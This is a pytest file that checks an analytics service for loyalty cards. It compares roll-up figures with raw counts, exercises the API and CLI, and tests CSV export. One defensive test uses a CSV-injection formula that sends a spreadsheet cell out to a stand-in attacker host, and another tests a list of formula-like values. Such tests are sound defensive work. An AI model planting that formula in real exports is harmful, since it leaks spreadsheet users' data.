        assert session.get(AnalyticsRollupState, 1).ledger_id == last
        figures = analytics_rollups.Figures.open(session, a)
        assert figures is not None and not figures.tail.daily, "nothing past the watermark"
        # The hand-computed figures of the tests above, now from the roll-ups.
        assert analytics_rollups.active(session, a, P, N) == 2
        assert analytics_rollups.lapsed(session, a, P, N) == 2
        assert analytics_rollups.churn_rate(session, a, P, N) == round(2 / 3, 4)
        assert analytics_rollups.repeat_purchase_rate(session, a, P) == {"buyers": 4, "repeat_buyers": 3,
                                                                         "rate": 0.75}
        assert analytics_rollups.purchases(session, a, P) == {"count": 8, "revenue": "236.00", "average": "29.50"}
        assert analytics_rollups.cohorts(session, a, P)[0]["active"] == [2, 1, 0, 1, 0, 1]
        for brand in (a, b):
            rolled, raw = _both(session, brand)
            assert rolled == raw

        # More entries, some back in time (between rolled-up ones), twice a day, a new card, a
        # birthday gift, a voided card's activity: first counted as the tail, then rolled up.
        w = World(session)
        w.number = 600_000_000
        program = session.get(Program, seeded["program_id"])
        cards = {card.created_at.date(): card for card in session.scalars(select(Card).where(Card.brand_id == a))}
        c1, c2, c3, c4 = (cards[dt.date(2026, 1, 10)], cards[dt.date(2026, 1, 20)], cards[dt.date(2026, 2, 5)],
                          cards[dt.date(2026, 3, 15)])
        c5 = cards[dt.date(2025, 12, 20)]
        c6 = w.card(program, at(5, 20), "0")
        for card, kind, points, when, amount, key in (
                (c2, "purchase", 7, at(4, 10, hour=18), "7.00", None),  # a second purchase the same day
                (c4, "purchase", 9, at(3, 20), "9.00", None),  # before its rolled-up days
                (c4, "purchase", 3, at(5, 30), "3.00", None),
                (c1, "earn", 5, at(5, 5), None, f"birthday:{c1.id}:2026"),  # no activity
                (c1, "earn", 4, at(5, 6), None, None),
                (c5, "redeem", -1, at(6, 10), None, None),  # a voided card's activity
                (c6, "issue", 0, at(5, 20), None, None),
                (c6, "purchase", 12, at(5, 20, hour=13), "12.00", None),
                (c6, "purchase", 12, at(6, 29, hour=23), "12.50", None),
                (c3, "redeem", -20, at(2, 10), None, None)):
            w.entry(card, kind, points, when, amount, key)
        session.commit()
        for brand in (a, b):
            rolled, raw = _both(session, brand)
            assert rolled == raw
        figures = analytics_rollups.Figures.open(session, a)
        assert figures is not None and figures.tail.daily, "counted as the tail"
        assert analytics_rollups.run(session, FUTURE, batch=3) > 0
        assert session.get(AnalyticsRollupState, 1).ledger_id == session.scalar(select(func.max(LedgerEntry.id)))
        assert not analytics_rollups.Figures.open(session, a).tail.daily  # type: ignore[union-attr]
        for brand in (a, b):
            rolled, raw = _both(session, brand)
            assert rolled == raw
        # April: c2 bought twice on one day (04-10: a repeat buyer), c3 (04-25) and c4 (04-20) once.
        april = Period(at(4, 1, hour=0), at(5, 1, hour=0))
        assert analytics_rollups.repeat_purchase_rate(session, a, april) == {"buyers": 3, "repeat_buyers": 1,
                                                                             "rate": 0.3333}


@pytest.mark.usefixtures("awkward_moment")  # "now" decides these figures
def test_young_entries_wait_for_the_next_run_and_count_meanwhile(app: Flask, data: dict[str, Any],
                                                                 seeded: dict[str, Any]) -> None:
    with app.app_context():
        session = db.session()
        a = data["brand_a"]
        analytics_rollups.run(session, FUTURE)
        now = dt.datetime.now(dt.UTC)
        card = session.scalars(select(Card).where(Card.brand_id == a).order_by(Card.id)).first()
        World(session).entry(card, "purchase", 5, now, "5.00")
        session.commit()
        state = session.get(AnalyticsRollupState, 1)
        before = state.ledger_id
        assert analytics_rollups.run(session, now) == 0, "younger than LAG: left for later"
        assert session.get(AnalyticsRollupState, 1).ledger_id == before
        today = Period(dt.datetime.combine(now.date(), dt.time(), dt.UTC),
                       dt.datetime.combine(now.date() + dt.timedelta(days=1), dt.time(), dt.UTC))
        assert analytics_rollups.purchases(session, a, today) == {"count": 1, "revenue": "5.00", "average": "5.00"}
        assert analytics_rollups.run(session, now + analytics_rollups.LAG + dt.timedelta(seconds=1)) == 1
        assert analytics_rollups.purchases(session, a, today) == analytics.purchases(session, a, today)


def test_the_api_and_the_cli_use_the_roll_ups(app: Flask, client: FlaskClient, data: dict[str, Any],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    result = app.test_cli_runner().invoke(args=["analytics-rollup"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        assert analytics_rollups.ready(db.session())
        # Raw counting is not an option any more: every ledger figure must come from the roll-ups.
        for name in ("active", "lapsed", "churn_rate", "redemption_rate", "purchases", "repeat_purchase_rate"):
            monkeypatch.setattr(analytics, name, lambda *args, name=name: pytest.fail(f"{name} counted raw"))
        monkeypatch.setattr(analytics, "_cohort_activity", lambda *args: pytest.fail("cohorts counted raw"))
    monkeypatch.setattr(analytics_reports, "BIG_BRAND_CARDS", 1)  # big, yet answered at once (no 202)
    body = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key"])).get_json()
    assert body["cards"] == {"issued": 4, "total": 5, "installed_apple": 2, "installed_google": 1, "removed": 2,
                             "active": 2, "lapsed": 2}
    assert (body["churn_rate"], body["redemption"]["rate"], body["repeat_purchase"]["rate"]) == (0.6667, 0.1037, 0.75)
    cohorts = client.get(f"/api/v1/analytics/cohorts?{QUERY}", headers=bearer(data["api_key"])).get_json()
    assert [c["active"] for c in cohorts["cohorts"]] == [[2, 1, 0, 1, 0, 1], [0, 0, 1, 0, 1], [0, 1, 0, 0]]
    result = app.test_cli_runner().invoke(args=["analytics-rollup", "--rebuild"])
    assert result.exit_code == 0 and "up to date" in result.output
    with app.app_context():
        assert analytics_rollups.ready(db.session())


def test_a_big_brand_waits_for_a_job_when_the_roll_ups_are_far_behind(app: Flask, data: dict[str, Any],
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(analytics_reports, "BIG_BRAND_CARDS", 5)
    query = analytics_reports.Query(dt.date(2026, 1, 1), dt.date(2026, 6, 30), 60)
    with app.app_context():
        session = db.session()
        analytics_rollups.run(session, FUTURE)
        counted = analytics_reports.answer(session, data["brand_a"], "summary", query, count_later=lambda *_: None)
        assert counted["cached"] is False and counted["cards"]["active"] == 2, "counted live from the roll-ups"
        World(session).entry(session.scalars(select(Card).where(Card.brand_id == data["brand_a"])).first(),
                             "purchase", 1, at(6, 30), "1.00")
        session.commit()
        monkeypatch.setattr(analytics_rollups, "MAX_TAIL_CARDS", 0)  # one card past the watermark is too many
        assert analytics_rollups.Figures.open(session, data["brand_a"]) is None
        with pytest.raises(analytics_reports.Counting):
            analytics_reports.answer(session, data["brand_a"], "summary", query, count_later=lambda *_: None)


def test_the_job_steps_over_a_gap_in_the_ledger_ids(app: Flask, data: dict[str, Any]) -> None:
    """Ids a rolled-back transaction took never show up: a batch past them is not the end."""
    with app.app_context():
        session = db.session()
        analytics_rollups.run(session, FUTURE)
        last = session.scalar(select(func.max(LedgerEntry.id)))
        card = session.scalars(select(Card).where(Card.brand_id == data["brand_a"])).first()
        session.add(LedgerEntry(id=last + 500, card_id=card.id, kind="purchase", points=3, amount=Decimal("3.00"),
                                created_at=at(6, 9)))
        session.commit()
        assert analytics_rollups.run(session, FUTURE, batch=3) == 500
        assert session.get(AnalyticsRollupState, 1).ledger_id == last + 500
        assert analytics_rollups.purchases(session, data["brand_a"], P)["count"] == 9


# -- the index-friendly queries (wallets, cards, cohort sizes, campaign funnel) ------------------


def _python_figures(session: Session, brand_id: int, period: Period) -> dict[str, Any]:
    """The definitions, counted in Python from every row of the raw tables."""
    cards = {card.id: card for card in session.scalars(select(Card))}
    ours = {card_id for card_id, card in cards.items() if card.brand_id == brand_id}
    live = {card_id for card_id in ours if not cards[card_id].voided}
    registered = {r.card_id for r in session.scalars(select(Registration))
                  if r.active and r.client_kind in analytics.PASSKIT_KINDS}
    last_google: dict[int, GoogleWalletEvent] = {}
    for event in session.scalars(select(GoogleWalletEvent).order_by(GoogleWalletEvent.id)):
        last_google[event.card_id] = event
    saved = {card_id for card_id, event in last_google.items() if event.event_type == "save"}
    gone = {e.data["card_id"] for e in session.scalars(select(WebhookEvent)) if e.brand_id == brand_id
            and e.type == "card.uninstalled" and period.start <= e.created_at < period.end}
    gone |= {e.card_id for e in session.scalars(select(GoogleWalletEvent)) if e.card_id in ours
             and e.event_type == "del" and period.start <= e.created_at < period.end}
    issued = [cards[i] for i in ours if period.start <= cards[i].created_at < period.end]
    months: dict[int, list[Any]] = {}
    for card in issued:
        month = months.setdefault(card.created_at.year * 12 + card.created_at.month, [0, Decimal(0)])
        month[0] += 1
        month[1] += card.lifetime_spend
    return {
        "installed_apple": len(live & registered), "installed_google": len(live & saved),
        "removed": len(gone - registered - saved), "issued": len(issued),
        "lifetime_value": str((sum(c.lifetime_spend for c in issued) / len(issued)).quantize(Decimal("0.01")))
        if issued else None,
        "before": [sum(1 for i in ours if cards[i].created_at < moment)
                   for moment in (period.end, period.end - dt.timedelta(days=N))],
        "sizes": [(month, n, spend) for month, (n, spend) in sorted(months.items())],
    }


def _sql_figures(session: Session, brand_id: int, period: Period) -> dict[str, Any]:
    return {
        "installed_apple": analytics.installed_apple(session, brand_id),
        "installed_google": analytics.installed_google(session, brand_id),
        "removed": analytics.removed(session, brand_id, period),
        "issued": analytics.cards_issued(session, brand_id, period),
        "lifetime_value": analytics.lifetime_value(session, brand_id, period),
        "before": analytics.cards_before(session, brand_id, period.end, period.end - dt.timedelta(days=N)),
        "sizes": [(int(m), int(n), Decimal(s or 0)) for m, n, s in analytics.cohort_sizes(session, brand_id, period)],
    }


def test_wallet_and_card_figures_equal_the_definitions_counted_in_python(app: Flask, data: dict[str, Any],
                                                                         seeded: dict[str, Any]) -> None:
    with app.app_context():
        session = db.session()
        w = World(session)
        w.number = 700_000_000
        program = session.get(Program, seeded["program_id"])
        a, b = data["brand_a"], data["brand_b"]
        b1 = session.scalars(select(Card).where(Card.brand_id == b)).one()
        # More shapes: saved twice; deleted, saved, deleted; a relay and an fcm phone; a voided
        # card saved to Google; another brand's card deleted in the period and in no wallet now.
        c6, c7, c8 = w.card(program, at(4, 2), "7.00"), w.card(program, at(6, 30, hour=23), "0"), w.card(
            program, at(5, 5), "1.00", voided=True)
        w.google(c6, "save", at(4, 3))
        w.google(c6, "save", at(4, 4))
        w.google(c7, "del", at(6, 30, hour=23))
        w.google(c7, "save", at(6, 30, hour=23))
        w.google(c7, "del", at(6, 30, hour=23))
        w.registration(c7, "fcm")
        w.registration(c6, "relay", active=False)
        w.google(c8, "save", at(5, 6))
        w.google(b1, "del", at(6, 10))
        session.commit()
        periods = [P, Period(at(6, 1, hour=0), P.end), Period(at(6, 1, hour=0), at(6, 2, hour=0)),
                   Period(at(1, 1, 2025, hour=0), at(1, 1, 2027, hour=0)), Period(at(7, 1, hour=0), at(8, 1, hour=0))]
        for brand in (a, b):
            for period in periods:
                assert _sql_figures(session, brand, period) == _python_figures(session, brand, period), (brand, period)
        assert analytics.installed_google(session, a) == 2  # c3, c6 (c7's last callback is a delete; c8 voided)
        assert analytics.installed_apple(session, a) == 3  # c1, c3, c7 (fcm)


def test_campaign_funnel_equals_the_definition_counted_in_python(app: Flask, data: dict[str, Any]) -> None:
    with app.app_context():
        session = db.session()
        campaign = session.get(Campaign, data["campaign"])
        cards = session.scalars(select(Card).where(Card.brand_id == data["brand_a"]).order_by(Card.id)).all()
        w = World(session)
        for card, status in ((cards[0], "queued"), (cards[1], "retry"), (cards[1], "sending"), (cards[3], "confirmed"),
                             (cards[3], "unregistered")):
            w.push(campaign, card, status)
        session.commit()
        pushes = [p for p in session.scalars(select(PushDelivery)) if p.campaign_id == campaign.id]
        expected = {"sent": len({p.card_id for p in pushes if p.status != "queued"}),
                    "accepted": len({p.card_id for p in pushes if p.status in ("accepted", "confirmed")}),
                    "confirmed": len({p.card_id for p in pushes if p.status == "confirmed"})}
        june = next(c for c in analytics.campaigns(session, data["brand_a"], P) if c["id"] == campaign.id)
        assert {key: june[key] for key in expected} == expected == {"sent": 4, "accepted": 3, "confirmed": 2}


def test_a_formula_in_a_campaign_name_is_plain_text_in_the_csv(app: Flask, client: FlaskClient,
                                                                data: dict[str, Any]) -> None:
    """CSV injection: a brand's text that a spreadsheet would run as a formula is quoted."""
    attack = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    with app.app_context():
        db.session().get(Campaign, data["campaign"]).name = attack
        db.session().commit()
    headers = {**bearer(data["api_key"]), "Accept": "text/csv"}
    campaigns = client.get(f"/api/v1/analytics/campaigns?{QUERY}", headers=headers).get_data(as_text=True)
    row = campaigns.splitlines()[1]
    assert row.startswith(f"{data['campaign']},\"'=HYPERLINK(") and ",=HYPERLINK" not in row


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-5.00", "-5.00"), ("+3", "+3"), ("plain", "plain"), (None, ""), (-7, -7)])
def test_csv_cells_that_start_like_a_formula_are_quoted(value: Any, cell: Any) -> None:
    from service.platform.csv_cells import safe_cell

    assert safe_cell(value) == cell
